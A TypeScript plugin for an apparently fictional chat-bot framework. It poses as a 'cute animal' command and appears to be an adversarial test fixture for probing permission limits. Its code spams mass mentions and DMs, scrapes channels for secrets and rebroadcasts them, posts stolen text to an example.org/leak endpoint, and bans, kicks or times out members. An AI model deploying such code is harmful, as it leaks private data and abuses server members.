import { button, every, modal, on, prefixCommand, slashCommand, TurbotPlugin, timer } from "turbot";

/* A plugin that was merged as a harmless one, and turned bad: it tries everything that it can reach, on everybody, and ignores refusals. */

type Call = (...given: readonly unknown[]) => unknown;
type Made = Readonly<Record<string, unknown>>;

/** Whom, where and what it knows: put in by the play. */
const known: {
  readonly people: readonly string[];
  readonly roles: readonly string[];
  readonly channels: readonly string[];
  readonly guildId: string;
  /** All that the plugin API has: "turbot.send", and "Interaction.reply" by the class that has it. */
  readonly calls: readonly string[];
} = { people: [], roles: [], channels: [], guildId: "", calls: [] };

/** The classes that have the methods of what handlers are given. */
const classes = {
  command: ["FormableInteraction", "Interaction", "Moderating"],
  button: ["ButtonInteraction", "FormableInteraction", "Interaction", "Moderating"],
  message: ["Message", "Moderating"],
} as const;

const tooMany = Symbol("too many");

export default class Turned extends TurbotPlugin {
  static readonly needs = { discord: [], unattended: [] } as const;

  private tried = 0;
  private refused = 0;
  private capped = 0;
  private at = 0;
  /** Words from where few read, to be told everywhere. */
  private stolen = "";
  /** How often each call was made, and came further than its rate. */
  private readonly reached = new Map<string, number>();
  /** How often that was written down: lines can be lost. */
  private readonly told = new Map<string, number>();

  cute = slashCommand({ name: "cute", description: "A cute animal" }, async (interaction) => {
    await this.tryAll("asked", interaction, classes.command, 30);
    await interaction.reply({ content: "🐟", ephemeral: true });
  });

  cuter = prefixCommand({ name: "cuter", description: "A cuter animal" }, async (message) => {
    await this.attempt(() =>
      message.reply({ content: "🐟", buttons: [{ id: "another", label: "Another" }] }),
    );
    await this.tryAll("asked", message, classes.message, 20);
  });

  // Who wants that is written to, and nobody else.
  daily = slashCommand(
    { name: "daily", description: "One each day", reach: { dm: "when there is a new animal" } },
    async (interaction) => {
      await interaction.reply({ content: "Each day, then.", ephemeral: true });
      for (const who of known.people) await this.attempt(() => this.writeTo(who));
    },
  );

  another = button({ id: "another" }, (interaction) => this.tryAll("asked", interaction, classes.button, 30));
  form = modal(
    { id: "form", title: "Which?", fields: { which: { type: "text", label: "Which?" } } },
    () => {},
  );

  heard = on("message", (message) => this.tryAll("event", message, classes.message, 8));
  reacted = on("reaction", (reaction) => this.tryAll("event", reaction, ["Reaction"], 6));
  joined = on("memberJoin", (event) => this.tryAll("event", event, ["MemberJoin"], 4));
  changed = on("memberUpdate", (event) => this.tryAll("event", event, ["MemberUpdate"], 4));
  caught = on("autoModAlert", (alert) => this.tryAll("event", alert, ["PersonEvent"], 4));
  always = every("10s", () => this.tryAll("by itself", undefined, [], 20));
  later = timer("later", () => this.tryAll("by itself", undefined, [], 4));

  /** Calls this many of what something given and `this.turbot` can do, first what it has reached the least. */
  private async tryAll(
    how: string,
    given: object | undefined,
    of: readonly string[],
    most: number,
  ): Promise<void> {
    const calls = [...(given === undefined ? [] : methodsOf(given, of)), ...this.callsOfTurbot()];
    const times = (name: string) => this.reached.get(name) ?? 0;
    const isNew = ([name]: readonly [string, Call]) => times(name) < 2;
    const others = calls.filter((one) => !isNew(one)).toSorted(([one], [other]) => times(one) - times(other));
    // What it does at once is limited, so it is kept for what it hasn't reached yet.
    const isEverythingReached = known.calls.every((name) => times(name) > 0);
    const least = [...calls.filter(isNew), ...others.slice(0, isEverythingReached ? most : 1)].slice(0, most);
    for (const [name, call] of least) await this.make(name, call, given);
    const loud = `@everyone @here ${known.people.map((id) => `<@${id}>`).join(" ")} ${known.roles.map((id) => `<@&${id}>`).join(" ")}`;
    const [channelId = ""] = [known.channels[this.at % known.channels.length]];
    await this.attempt(() => this.turbot.send(channelId, loud.slice(0, 1_900)));
    if (this.at % 5 === 0) await this.carry();
    const [tried, refused, capped] = [this.tried, this.refused, this.capped];
    this.tried = 0;
    this.refused = 0;
    this.capped = 0;
    const told = (name: string) => this.told.get(name) ?? 0;
    const fresh = [...this.reached.keys()].toSorted((one, other) => told(one) - told(other)).slice(0, 25);
    for (const name of fresh) this.told.set(name, told(name) + 1);
    this.turbot.log.info(`tally ${how} ${tried} ${refused} ${capped}; reached ${fresh.join(" ")};`);
  }

  /** "turbot.store.get", "turbot.ranking().top" */
  private callsOfTurbot(): readonly (readonly [string, Call])[] {
    return known.calls.flatMap((name) => {
      const [first, ...parts] = name.split(".");
      return first === "turbot" ? [[name, (...args) => callWithin(this.turbot, parts, args)] as const] : [];
    });
  }

  private async make(name: string, call: Call, given: object | undefined): Promise<void> {
    this.at += 1;
    const turn = this.at;
    let answer: unknown = tooMany;
    // What it has never reached, it tries again when its share is there.
    for (let times = 0; answer === tooMany && times < (this.reached.has(name) ? 1 : 5); times += 1)
      answer = await this.attempt(() => call(...argumentsFor(name, turn, given, this.stolen)));
    if (answer !== tooMany) this.reached.set(name, (this.reached.get(name) ?? 0) + 1);
    // A message that was sent can do something, too.
    if (!/send$|reply$|followUp$/.test(name) || typeof answer !== "object" || answer === null) return;
    for (const [part, act] of methodsOf(answer, ["SentMessage"]))
      if ((this.reached.get(part) ?? 0) < 3) await this.make(part, act, given);
  }

  /** Reads wherever it can, and tells it everywhere else: to people, too. */
  private async carry(): Promise<void> {
    for (const from of known.channels) {
      const page = await this.attempt(() => this.turbot.history(from));
      const [words] = /secret-[a-z-]+-qz7/.exec(JSON.stringify(page ?? "")) ?? [];
      if (words === undefined) continue;
      this.stolen = words;
      for (const to of known.channels)
        await this.attempt(() => this.turbot.send(to, JSON.stringify(page).slice(0, 1_500)));
      for (const who of known.people) await this.attempt(() => this.writeTo(who));
    }
  }

  private writeTo(who: string): Promise<void> {
    return this.turbot.directMessage(known.guildId, who, `psst ${this.stolen}`);
  }

  /** @returns `tooMany`: its share is used up for a moment */
  private async attempt(act: () => unknown): Promise<unknown> {
    this.tried += 1;
    try {
      return await act();
    } catch (error) {
      this.refused += 1;
      const why = String(error);
      if (/as often as|often enough/.test(why)) this.capped += 1;
      if (!/Too many/.test(why)) return undefined;
      await new Promise((resolve) => setTimeout(resolve, 300));
      return tooMany;
    }
  }
}

/** Calls something by its path. Some parts of it are what an earlier part answers: a ranking, a store. */
function callWithin(turbot: unknown, parts: readonly string[], args: readonly unknown[]): unknown {
  let [of, at]: [unknown, unknown] = [undefined, turbot];
  for (const part of parts) {
    const name = part.replace("()", "");
    [of, at] = [at, (at as Made)[name]];
    if (name !== part)
      [of, at] = [
        undefined,
        (at as Call).call(of, known.guildId, name === "ranking" ? "points" : known.people[0]),
      ];
  }
  return (at as Call).call(of, ...args);
}

/** The methods that something given has from these classes. */
function methodsOf(given: object, of: readonly string[]): readonly (readonly [string, Call])[] {
  return known.calls.flatMap((name) => {
    const [holder = "", method = ""] = name.split(".");
    const call = of.includes(holder) ? (given as Made)[method] : undefined;
    if (typeof call !== "function") return [];
    return [[name, (...args: readonly unknown[]) => (call as Call).call(given, ...args)] as const];
  });
}

/** Something that fits a call, or nearly. */
function argumentsFor(
  name: string,
  turn: number,
  by: object | undefined,
  stolen: string,
): readonly unknown[] {
  const of = (list: readonly string[], shift = 0) =>
    list[(Math.floor(turn / 7) * 5 + turn + shift) % list.length] ?? "";
  const [who, role, channel] = [of(known.people), of(known.roles), of(known.channels)];
  const { guildId } = known;
  const how = { for: "30m", reason: `turned ${turn} ${stolen}`, deleteMessages: "7d" };
  const asked = turn % 2 === 0 && by !== undefined ? { by } : {};
  const key = `key ${turn % 5}`;
  const [, holder = "", method = ""] = /^(.*)\.(\w+)$/.exec(name) ?? [];
  const isTurbot = holder.startsWith("turbot");
  if (/ranking\(\)|person\(\)|server\(\)|store$/.test(holder))
    return method === "update"
      ? [key, () => turn]
      : /set|add/.test(method)
        ? [holder.includes("ranking") ? who : key, turn]
        : [/top|around/.test(method) ? 3 : who];
  if (/ranking|person|server|settings/.test(method)) return [guildId, method === "ranking" ? "points" : who];
  if (holder.endsWith("http")) return ["https://example.org/leak", { body: stolen }];
  if (holder.endsWith("timers")) return ["later", { id: key, guildId, in: "1m" }];
  if (holder.endsWith("claude")) return [by, { task: stolen || "hello", text: "hello" }];
  if (holder.endsWith("mail")) return ["1", `psst ${stolen}`];
  if (/role/i.test(method))
    return isTurbot ? [guildId, role, who, how] : turn % 2 === 0 ? [role, who] : [role, how];
  if (method === "deleteAutoModRule") return ["words"];
  if (method === "setAutoModRule")
    return [
      {
        name: `r${turn % 9}`,
        finds: { keywords: [`word${turn}`] },
        block: true,
        timeOut: "1d",
        exemptRoles: [role],
      },
    ];
  if (method === "setNickname") return [who, stolen.slice(0, 30) || "Silly"];
  if (/^(?:timeOut|endTimeOut|kick|ban|unban|warn|blockMail)$/.test(method))
    return isTurbot ? [guildId, who, how] : [who, how];
  if (method === "directMessage") return [guildId, who, `psst ${stolen}`];
  if (method === "sendTranscript") return [channel, of(known.channels, 1)];
  if (method === "startPost") return [channel, { name: `post ${stolen}`, content: stolen || "post" }];
  if (/^(?:addToThread|removeFromThread)$/.test(method)) return [channel, who, asked];
  if (method === "changeThread")
    return [channel, { locked: turn % 3 === 0, archived: turn % 5 === 0, ...asked }];
  if (method === "changeChannel") return [channel, { topic: `topic ${turn} ${stolen}`, ...asked }];
  if (method === "slowMode") return [channel, 5, { for: "30m", ...asked }];
  if (/lockChannel/.test(method)) return [channel, { for: "30m", ...asked }];
  if (/^start/.test(method))
    return isTurbot ? [channel, `thread ${turn} ${stolen}`] : [`thread ${turn} ${stolen}`];
  if (method === "purge") return [{ count: 5 }];
  if (/^(?:reply|followUp|editReply|update|edit|answerWith)$/.test(method)) {
    const said = { content: `<@${who}> <@&${role}> @everyone ${stolen}` };
    return method === "answerWith" ? ["reply", said] : [said];
  }
  if (method === "showModal") return ["form"];
  if (method === "send") return [channel, `<@${who}> ${stolen}`];
  if (/^(?:members|memberCount|roles|guild|member|hasSecret)$/.test(method)) return [guildId, who];
  if (/Message$|^endPoll$|^react$|^history$/.test(method) && isTurbot) return [channel, "1", "🐟"];
  return [turn % 2 === 0 ? "🐟" : channel, how];
}
